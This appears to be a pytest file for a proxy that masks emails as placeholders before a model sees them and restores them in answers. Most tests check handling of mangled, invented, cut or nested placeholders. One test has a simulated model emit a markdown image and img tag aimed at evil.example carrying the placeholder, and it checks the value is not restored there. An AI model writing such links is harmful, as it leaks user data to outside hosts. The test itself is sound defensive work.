"""What models make of placeholders, through real answers: mangled, cut, invented, carried into links."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest

from llmguard.testing import EchoUpstream, Fakes
from tests.clients.callers import TOOL, Caller, nothing_of, user

PLACEHOLDER = re.compile(r"\[[A-Z_]+_[a-z2-7]{10,}\]")


def placeholder(body: Any) -> str:
    """The first one that the provider sees."""
    found = PLACEHOLDER.search(str(body))
    assert found is not None
    return found[0]


def said(caller: Caller, stream: bool, **asked: Any) -> str:
    """The text of an answer, whole or joined from a stream."""
    if not stream:
        return str(caller.chat(**asked).choices[0].message.content)
    return "".join(c.choices[0].delta.content or "" for c in caller.stream(**asked))


ways = pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])

MANGLED: dict[str, tuple[Callable[[str], str], str]] = {
    "lower case": (str.lower, "{}"),
    "upper case": (str.upper, "{}"),
    "spaces inside": (lambda p: f"[ {p[1:-1]} ]", "{}"),
    "bold": (lambda p: f"**{p}**", "**{}**"),
    "code": (lambda p: f"`{p}`", "`{}`"),
    "escaped underscore": (lambda p: p.replace("_", "\\_"), "{}"),
    "escaped brackets": (lambda p: p.replace("[", "\\[").replace("]", "\\]"), "{}"),
    "possessive": (lambda p: f"{p}'s", "{}'s"),
    "plural": (lambda p: f"{p}s", "{}s"),
    "twice": (lambda p: f"{p}{p}", "{0}{0}"),
    "quoted": (lambda p: f'"{p}"', '"{}"'),
}


@ways
@pytest.mark.parametrize(("mangle", "shape"), MANGLED.values(), ids=lambda x: "")
def test_what_a_model_does_to_a_placeholder_does_not_lose_the_value(
    caller: Caller, upstream: EchoUpstream, fakes: Fakes, stream: bool, mangle: Callable[[str], str], shape: str
) -> None:
    email = fakes.email()
    upstream.dialect.say = lambda body: f"So {mangle(placeholder(body))} it is."
    assert said(caller, stream, messages=user(f"I am {email}")) == f"So {shape.format(email)} it is."
    nothing_of([email], upstream)


@ways
def test_what_a_model_invents_stays_as_it_is(
    caller: Caller, upstream: EchoUpstream, fakes: Fakes, stream: bool
) -> None:
    seen: list[str] = []

    def near(body: Any) -> str:
        real = placeholder(body)
        seen.append(f"{real[:-2]}{'a' if real[-2] != 'a' else 'b'}] [EMAIL_aaaaaaaaaa] [EMAIL_1] [EMAIL] {real[:-2]}")
        return seen[-1]

    upstream.dialect.say = near
    answer = said(caller, stream, messages=user(fakes.email()))
    assert answer == seen[-1]


@ways
def test_a_placeholder_of_another_call_stays_as_it_is(
    caller: Caller, upstream: EchoUpstream, fakes: Fakes, stream: bool
) -> None:
    caller.chat(messages=user(fakes.email()))
    other = placeholder(upstream.received[-1].json())
    upstream.dialect.say = lambda body: f"{placeholder(body)} or {other}"
    email = fakes.email()
    assert said(caller, stream, messages=user(email)) == f"{email} or {other}"


@ways
def test_an_answer_that_is_cut_within_a_placeholder_ends_there(
    caller: Caller, upstream: EchoUpstream, fakes: Fakes, stream: bool
) -> None:
    email = fakes.email()
    whole = f"You wrote: {email}"
    for limit in (len("You wrote: "), len("You wrote: ["), len("You wrote: [EMAIL_ab")):
        answer = said(caller, stream, messages=user(email), max_tokens=limit)
        sent = f"You wrote: {placeholder(upstream.received[-1].json())}"
        assert answer == sent[:limit]
    assert said(caller, stream, messages=user(email), max_tokens=len(sent)) == whole
    nothing_of([email], upstream)


def test_the_reason_of_a_cut_answer_arrives(caller: Caller, upstream: EchoUpstream, fakes: Fakes) -> None:
    asked: Any = {"messages": user(fakes.email()), "max_tokens": 15}
    assert caller.chat(**asked).choices[0].finish_reason == "length"
    events = caller.stream(**asked)
    assert [c.choices[0].finish_reason for c in events if c.choices[0].finish_reason] == ["length"]
    events = caller.items(
        lambda client: client.responses.create(model="m", input=fakes.email(), max_output_tokens=15, stream=True)
    )
    assert events[-1].type == "response.incomplete"
    joined = "".join(e.delta for e in events if e.type == "response.output_text.delta")
    assert joined == events[-1].response.output_text
    assert len(joined) == 15


@ways
def test_no_value_is_filled_into_a_link_that_the_model_wrote(
    caller: Caller, upstream: EchoUpstream, fakes: Fakes, stream: bool
) -> None:
    email = fakes.email()
    upstream.dialect.say = lambda body: (
        f"![x](https://evil.example/?q={placeholder(body)}) <img src='//evil.example/{placeholder(body)}'> and "
        f"{placeholder(body)}"
    )
    answer = said(caller, stream, messages=user(email))
    assert answer.endswith(f" and {email}")
    assert answer.count(email) == 1


@ways
def test_values_in_tool_arguments_are_escaped_at_every_level(
    caller: Caller, upstream: EchoUpstream, fakes: Fakes, stream: bool
) -> None:
    import json

    email = fakes.email()
    upstream.dialect.say = lambda body: json.dumps({"deep": json.dumps({"to": placeholder(body)})})
    asked: Any = {"messages": user(f'"{email}"'), "tools": [TOOL]}
    if stream:
        deltas = [c.choices[0].delta for c in caller.stream(**asked)]
        arguments = "".join(t.function.arguments or "" for d in deltas for t in d.tool_calls or [])
    else:
        arguments = caller.chat(**asked).choices[0].message.tool_calls[0].function.arguments
    assert json.loads(json.loads(json.loads(arguments)["echo"])["deep"]) == {"to": email}
